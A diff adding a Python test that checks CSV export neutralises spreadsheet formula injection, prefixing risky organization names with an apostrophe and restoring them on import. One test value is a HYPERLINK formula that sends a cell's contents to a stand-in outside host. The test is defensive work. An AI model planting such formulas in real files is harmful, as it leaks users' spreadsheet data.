@@ -142,6 +142,29 @@ def test_export_round_trips_through_import(store: RecordStore) -> None:
     assert report.imported == 1203 and report.rejected == []
 
 
+def test_a_name_a_spreadsheet_would_run_is_exported_as_text_and_imports_back(
+    store: RecordStore,
+) -> None:
+    # Names come from other members through sync and the CSV is opened in spreadsheets: a cell
+    # starting with = + - @ is a formula there. It leaves with an apostrophe (text to a
+    # spreadsheet) and comes back without it.
+    names = ['=HYPERLINK("https://example.org/?"&A1,"Ver")', "@SUM(1)", "-2+3", "+57 Colectivo"]
+    store.save_all([Organization(space_id=SPACE, name=name, country="co") for name in names])
+    sink = io.StringIO()
+    export_csv(store, RecordQuery("organization"), sink)
+    cells = {row["name"] for row in csv.DictReader(io.StringIO(sink.getvalue()))}
+    assert cells == {"'" + name for name in names}
+    other = new_id()
+    report = import_organizations_csv(store, sink.getvalue().encode("utf-8"), other)
+    assert report.imported == len(names)
+    imported = {
+        record.name
+        for row in store.page(RecordQuery("organization", space_ids=(other,)), 0, 10)
+        if isinstance(record := store.get(row.id), Organization)
+    }
+    assert imported == set(names)
+
+
 def test_json_export_is_complete_and_parseable(store: RecordStore) -> None:
     incidents = [
         Incident(space_id=SPACE, title=f"Incidente {n}", narrative="línea 1\nlínea 2")
